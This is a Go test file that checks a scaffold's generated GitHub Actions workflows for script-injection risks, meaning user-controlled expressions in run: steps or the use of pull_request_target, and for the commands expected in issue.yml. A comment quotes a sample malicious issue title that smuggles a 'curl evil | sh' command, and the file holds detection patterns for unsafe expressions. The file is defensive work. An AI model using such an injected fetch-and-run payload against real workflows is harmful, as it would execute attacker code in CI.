package scaffold

import (
	"regexp"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// userText matches expressions whose value someone without write access
// can choose: an issue's or comment's text, a login, labels, a branch name.
var userText = regexp.MustCompile(`\$\{\{[^}]*\b(github\.event\.(issue|comment|pull_request|review|head_commit|commits|pages|discussion)|github\.head_ref|github\.actor)\b`)

// runScripts returns every run: value in a parsed workflow or action,
// wherever it stands (job steps, composite steps, defaults).
func runScripts(n *yaml.Node) []string {
	var out []string
	if n.Kind == yaml.MappingNode {
		for i := 0; i+1 < len(n.Content); i += 2 {
			if k, v := n.Content[i], n.Content[i+1]; k.Value == "run" && v.Kind == yaml.ScalarNode {
				out = append(out, v.Value)
			}
		}
	}
	for _, c := range n.Content {
		out = append(out, runScripts(c)...)
	}
	return out
}

// TestNoScriptInjection: the text of issues and comments reaches a script
// only through the environment, so that a title such as
// `"; curl evil | sh; "` stays text; and no workflow runs with the
// privileges of pull_request_target.
func TestNoScriptInjection(t *testing.T) {
	for _, target := range []Target{{Source: true}, {Version: "v1.2.3"}, {}} {
		scripts := 0
		for _, f := range rendered(t, target) {
			if strings.Contains(string(f.Data), "pull_request_target") {
				t.Errorf("%s mentions pull_request_target", f.Path)
			}
			var doc yaml.Node
			if err := yaml.Unmarshal(f.Data, &doc); err != nil {
				t.Fatalf("%s: %v", f.Path, err)
			}
			for _, run := range runScripts(&doc) {
				scripts++
				if userText.MatchString(run) || strings.Contains(run, "${{") {
					t.Errorf("%s: an expression in run: is a script injection risk; pass it through env:\n%s", f.Path, run)
				}
			}
		}
		if scripts < 10 {
			t.Fatalf("%d run: scripts found: the walk misses steps", scripts)
		}
	}
	// The pattern catches what it must.
	for _, bad := range []string{`echo "${{ github.event.issue.title }}"`, `x=${{github.event.comment.body}}`, `echo ${{ github.actor }}`} {
		if !userText.MatchString(bad) {
			t.Errorf("%q not caught", bad)
		}
	}
	issue := string(rendered(t, Target{})[".github/workflows/issue.yml"].Data)
	for _, want := range []string{
		`buoy issue --event "$GITHUB_EVENT_PATH" --comment "$RUNNER_TEMP/reply.md"`,
		`gh api "repos/$GITHUB_REPOSITORY/collaborators/$ACTOR/permission" --jq .permission`,
		"OWNER | MEMBER | COLLABORATOR)",
		"admin | maintain | write)",
		`--force-with-lease="refs/heads/$branch:$lease"`,
		"for attempt in 1 2 3 4 5; do",
		"gh pr merge \"$BRANCH\" --squash",
		`--body-file "$RUNNER_TEMP/reply.md"`,
	} {
		if !strings.Contains(issue, want) {
			t.Errorf("issue.yml lacks %q", want)
		}
	}
	// GitHub cancels a waiting run of a concurrency group when another
	// arrives: a command would be lost. Runs retry on the lease instead.
	if strings.Contains(issue, "concurrency:") {
		t.Error("issue.yml has a concurrency group: a third command would cancel the waiting second")
	}
}
